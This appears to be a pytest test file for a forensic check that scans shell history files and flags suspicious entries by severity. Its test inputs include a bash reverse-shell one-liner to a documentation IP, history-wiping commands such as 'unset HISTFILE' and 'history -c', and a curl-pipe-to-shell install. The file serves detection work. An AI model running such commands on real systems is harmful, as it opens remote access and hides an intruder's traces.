from __future__ import annotations

import pytest

from pratique.checks.accounts.history_telling import CHECK
from pratique.model import Severity
from pratique.parsers.shell_history import parse
from pratique.store.tables import Tables


def signs(text, path="/root/.bash_history"):
    rows = parse(text.encode(), path)
    return list(CHECK.find(Tables.of(rows, CHECK.reads)))


@pytest.mark.parametrize(
    ("text", "severities"),
    [
        ("bash -i >& /dev/tcp/198.51.100.2/443 0>&1\n", {Severity.HIGH}),
        ("ls\nunset HISTFILE\n", {Severity.MEDIUM}),
        ("curl -fsSL https://get.docker.com | sh\n", {Severity.LOW}),
        ("unset HISTFILE\nhistory -c\nhistory -c\n", {Severity.MEDIUM, Severity.LOW}),
    ],
)
def test_points_at(text, severities):
    assert {sign.severity for sign in signs(text)} == severities


def test_tells_when_it_was_typed():
    (sign,) = signs("#1380630977\nunset HISTFILE\n")
    assert sign.quote == "2013-10-01 12:36:17 unset HISTFILE"
    assert sign.places[0].line == 2


@pytest.mark.parametrize(
    ("text", "path"),
    [
        ("ls\napt update\nvim /etc/nginx/nginx.conf\n", "/root/.bash_history"),
        ("unset HISTFILE;\n", "/root/.mysql_history"),
    ],
)
def test_leaves_alone(text, path):
    assert signs(text, path) == []
